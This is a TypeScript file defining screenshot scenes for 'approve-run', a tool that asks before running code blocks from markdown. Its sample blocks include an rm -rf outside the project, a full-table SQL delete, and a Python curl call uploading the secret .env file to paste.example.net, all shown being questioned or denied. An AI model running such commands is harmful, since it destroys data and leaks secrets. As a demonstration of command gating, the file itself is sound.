// The pictures of docs/pictures, one entry each: a task, what is typed, and what is on the screen when the picture is taken.
// `npm run pictures` plays them in a scratch HOME. What looks dangerous is only asked about, and never approved.
import { fence } from '../test/helpers/scratch.ts';

export interface Scene {
  readonly name: string;
  /** For those who cannot see it: what it is, and what is on it. */
  readonly title: string;
  readonly description: string;
  readonly args: readonly string[];
  /** Below the working directory, ~/project. */
  readonly files: Readonly<Record<string, string>>;
  /** When the screen shows this, that is typed. */
  readonly answers: readonly { readonly when: RegExp; readonly type: string }[];
  /** The picture is of the screen that matches; `█` is the cursor. */
  readonly until: RegExp;
  /** What ends a run that is still waiting then. */
  readonly leave?: string;
}

/** The run is over, and all of its last line is there. */
export const SUMMARY = /\d skipped ·[^\n]*\njournal [^\n]*\n(?:approve-run resume [^\n]*\n)?█$/;

const READ_PAID = `import { readFileSync } from 'node:fs';
const paid = readFileSync('unique.csv', 'utf8').match(/paid/g);
console.log(paid.length, 'paid');`;

export const SCENES: readonly Scene[] = [
  {
    name: 'prompt',
    title: 'approve-run asks before each block',
    description:
      'The first block, ls ~/projects, was answered with yes and ran. The second deletes a folder outside the project: ' +
      'the question says which one, and wants a typed code instead of yes.',
    args: ['tidy.md'],
    files: {
      'tidy.md': [
        'Which projects are there?\n',
        fence('bash', 'ls ~/projects'),
        'The old one can go.\n',
        fence('bash', 'old=~/projects/old\nrm -rf "$old"'),
      ].join('\n'),
      '../projects/api/README.md': '',
      '../projects/old/README.md': '',
      '../projects/site/README.md': '',
    },
    answers: [{ when: /1\/2 bash[\s\S]*›/, type: 'yes\r' }],
    until: /2\/2 bash[\s\S]*› █$/,
    leave: 'quit\r',
  },
  {
    name: 'denial',
    title: 'A denial with a reason',
    description:
      'The block deletes all rows of a table. The answer is: deny delete only those older than 30 days. ' +
      'The block is not run, the one after it is skipped, and the reason is shown.',
    args: ['sessions.md'],
    files: {
      'sessions.md': [
        'Old sessions fill the table.\n',
        fence('bash', 'psql shop -c "delete from sessions"'),
        fence('bash', 'psql shop -c "vacuum sessions"'),
      ].join('\n'),
    },
    answers: [{ when: /1\/2 bash[\s\S]*›/, type: 'deny delete only those older than 30 days\r' }],
    until: SUMMARY,
  },
  {
    name: 'summary',
    title: 'Three blocks and the summary of the run',
    description:
      'A bash block writes a file, is asked about and answered with yes. A python and a node block change nothing and run ' +
      'unasked. Then 3 run, none failed, denied or skipped, and the journal is named.',
    args: ['report.md', '--policy', 'read-only'],
    files: {
      'report.md': [
        fence('bash', 'sort -u orders.csv > unique.csv'),
        fence('python', 'print(len(open("unique.csv").readlines()), "orders")'),
        fence('node', READ_PAID),
      ].join('\n'),
      'orders.csv': '17,paid\n18,paid\n17,paid\n19,open\n20,paid\n',
    },
    answers: [{ when: /1\/3 bash[\s\S]*›/, type: 'yes\r' }],
    until: SUMMARY,
  },
  {
    name: 'check',
    title: 'approve-run check says what would happen, and runs nothing',
    description:
      'Four blocks of a task: one is allowed because it changes nothing, one would ask because it installs packages, one is ' +
      'denied because it sends the secret file .env to another machine, and one is skipped because json is no tool.',
    args: ['check', 'release.md', '--policy', 'workspace', '--policy', 'deny-dangerous'],
    files: {
      'release.md': [
        fence('bash', 'grep -rn TODO src | wc -l'),
        fence('bash', 'npm ci'),
        fence('python', 'import subprocess\nsubprocess.run(["curl", "-F", "file=@.env", "https://paste.example.net"])'),
        fence('json', '{ "version": "1.2.0" }'),
      ].join('\n'),
    },
    answers: [],
    until: /json is no tool\n█$/,
  },
];
